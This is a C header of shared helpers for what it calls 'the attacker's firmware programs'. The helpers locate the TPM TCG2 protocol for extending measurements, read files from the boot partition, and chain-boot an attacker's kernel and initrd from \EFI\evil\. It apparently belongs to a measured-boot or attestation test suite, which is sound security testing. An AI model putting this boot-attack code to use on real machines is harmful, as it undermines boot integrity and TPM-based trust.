/* SPDX-License-Identifier: Apache-2.0 */
/* What the attacker's firmware programs share. TCG EFI Protocol Specification 6; UEFI specification 13.2 (Load File
 * 2). */
#ifndef ATTACK_EFI_COMMON_H
#define ATTACK_EFI_COMMON_H

#include <efi.h>
#include <efilib.h>

#pragma pack(1)
struct tcg2_event {
	UINT32 size, header_size;
	UINT16 version;
	UINT32 pcr, type;
	UINT8 data[8];
};
#pragma pack()

struct tcg2;
typedef EFI_STATUS(EFIAPI *hash_log_extend)(struct tcg2 *self, UINT64 flags, EFI_PHYSICAL_ADDRESS data, UINT64 len,
					    struct tcg2_event *event);
struct tcg2 {
	void *get_capability, *get_event_log;
	hash_log_extend hash_log_extend_event;
	void *more[4];
};

#define TCG2_GUID                                                                                                      \
	{                                                                                                              \
		0x607f766c, 0x7455, 0x42be,                                                                            \
		{                                                                                                      \
			0x93, 0x0b, 0xe4, 0xd7, 0x6d, 0xb2, 0x72, 0x0f                                                 \
		}                                                                                                      \
	}

static inline struct tcg2 *find_tcg2(void)
{
	EFI_GUID guid = TCG2_GUID;
	void *found = NULL;

	return EFI_ERROR(uefi_call_wrapper(BS->LocateProtocol, 3, &guid, NULL, &found)) ? NULL : found;
}

/* A whole file of the partition that the program itself came from; NULL if it can't be read. */
static inline UINT8 *read_file(EFI_HANDLE self, CHAR16 *path, UINTN *ret_len)
{
	EFI_LOADED_IMAGE *own;
	EFI_FILE_HANDLE root, file;
	EFI_FILE_INFO *info;
	UINT8 *bytes;

	if (EFI_ERROR(uefi_call_wrapper(BS->HandleProtocol, 3, self, &LoadedImageProtocol, (void **)&own)))
		return NULL;
	root = LibOpenRoot(own->DeviceHandle);
	if (!root || EFI_ERROR(uefi_call_wrapper(root->Open, 5, root, &file, path, EFI_FILE_MODE_READ, 0)))
		return NULL;
	info = LibFileInfo(file);
	*ret_len = info->FileSize;
	bytes = AllocatePool(*ret_len);
	if (!bytes || EFI_ERROR(uefi_call_wrapper(file->Read, 3, file, ret_len, bytes)))
		return NULL;
	uefi_call_wrapper(file->Close, 1, file);
	return bytes;
}

static CHAR16 own_options[] = L"initrd=\\EFI\\evil\\initrd console=ttyS0 loglevel=4 panic=-1";

/* A kernel and an initrd of the attacker's, \EFI\evil\vmlinuz and initrd. Comes back only if it doesn't start. */
static inline EFI_STATUS start_own_system(EFI_HANDLE self)
{
	EFI_LOADED_IMAGE *own, *next;
	EFI_HANDLE image;
	EFI_STATUS status;

	uefi_call_wrapper(BS->HandleProtocol, 3, self, &LoadedImageProtocol, (void **)&own);
	status = uefi_call_wrapper(BS->LoadImage, 6, FALSE, self,
				   FileDevicePath(own->DeviceHandle, L"\\EFI\\evil\\vmlinuz"), NULL, 0, &image);
	if (EFI_ERROR(status))
		return status;
	uefi_call_wrapper(BS->HandleProtocol, 3, image, &LoadedImageProtocol, (void **)&next);
	next->LoadOptions = own_options;
	next->LoadOptionsSize = sizeof own_options;
	return uefi_call_wrapper(BS->StartImage, 3, image, NULL, NULL);
}

#endif
